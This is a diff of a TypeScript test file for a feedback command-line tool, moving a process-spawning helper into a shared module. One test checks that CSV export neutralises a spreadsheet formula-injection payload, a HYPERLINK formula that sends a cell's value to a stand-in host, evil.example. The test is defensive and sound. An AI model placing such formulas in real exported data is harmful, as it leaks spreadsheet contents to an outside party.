@@ -1,34 +1,10 @@
-import { spawnSync } from "node:child_process";
 import { writeFileSync } from "node:fs";
 import { expect, test } from "vitest";
-import { openStore } from "../../../src/feedback/index.ts";
-import { readerId, seedVotes, texts, vote } from "../../support/seed.ts";
-import { temporaryFolder } from "../../support/server.ts";
-
-const now = Date.now();
-
-/** A store with the seed's votes in a file of its own; `run` is `npm run feedback --` on it, typed in its folder. */
-async function command(votes = seedVotes(now)) {
-  const folder = temporaryFolder();
-  const url = `file:${folder}/feedback.db`;
-  const store = await openStore(url);
-  await store.merge(votes);
-  await store.close();
-
-  const { PATH = "" } = process.env;
-  const run = (line: string, database = url) => {
-    const { status, stdout, stderr } = spawnSync(
-      process.execPath,
-      ["src/cli/feedback.ts", ...line.split(" ").filter(Boolean)],
-      { encoding: "utf8", env: { PATH, DATABASE_URL: database, INIT_CWD: folder }, maxBuffer: 2 ** 26 },
-    );
-    return { status, stdout, stderr };
-  };
-  return { folder, run };
-}
+import { feedbackCommand } from "../../support/feedback-command.ts";
+import { readerId, texts, vote } from "../../support/seed.ts";
 
 test("the report has pages with the names of their ports, weeks and comments", async () => {
-  const { run } = await command();
+  const { run } = await feedbackCommand();
   const { status, stdout } = run("");
   expect(status).toBe(0);
   expect(stdout).toMatch(/^7\d\d votes on 12 pages: /);
@@ -38,14 +14,14 @@ test("the report has pages with the names of their ports, weeks and comments", a
 });
 
 test("JSON is for programs, CSV for spreadsheets", async () => {
-  const { run } = await command();
+  const { run } = await feedbackCommand();
   const json = JSON.parse(run("--json --port 770 --limit 2").stdout) as object;
   expect(json).toMatchObject({ version: 1, filter: { port: 770 }, comments: { length: 2 } });
   expect(run("comments --csv").stdout).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`);
 });
 
 test("a vote that was handled is left out of those that are not", async () => {
-  const { run } = await command([vote({ comment: "Only this." })]);
+  const { run } = await feedbackCommand([vote({ comment: "Only this." })]);
   expect(run(`handle 770 ${readerId(1)}`)).toMatchObject({ status: 0, stdout: "Marked as handled.\n" });
   expect(run("comments --unhandled").stdout).not.toContain("Only this.");
   expect(run(`handle 770 ${readerId(1)} --undo`).stdout).toBe("Marked as not handled.\n");
@@ -57,7 +33,7 @@ test("a vote that was handled is left out of those that are not", async () => {
 });
 
 test("what one store has is exported and imported into another, as often as one likes", async () => {
-  const { run, folder } = await command([vote(), vote({ port: 22, comment: texts.lines })]);
+  const { run, folder } = await feedbackCommand([vote(), vote({ port: 22, comment: texts.lines })]);
   expect(run("export votes.jsonl").stdout).toBe("All votes are in votes.jsonl.\n");
   const other = `file:${folder}/other.db`;
   expect(run("import votes.jsonl", other).stdout).toBe("2 votes added, 0 changed, 0 there already.\n");
@@ -66,7 +42,7 @@ test("what one store has is exported and imported into another, as often as one 
 });
 
 test("a bad line, a missing file and a bad option end with one clear error", async () => {
-  const { run, folder } = await command([]);
+  const { run, folder } = await feedbackCommand([]);
   writeFileSync(`${folder}/bad.jsonl`, '{"portolan":"feedback","version":1}\n{"line":"vote"}\n');
   expect(run("import bad.jsonl")).toMatchObject({ status: 1, stdout: "" });
   expect(run("import bad.jsonl").stderr).toContain(`${folder}/bad.jsonl:2: port is not a port`);
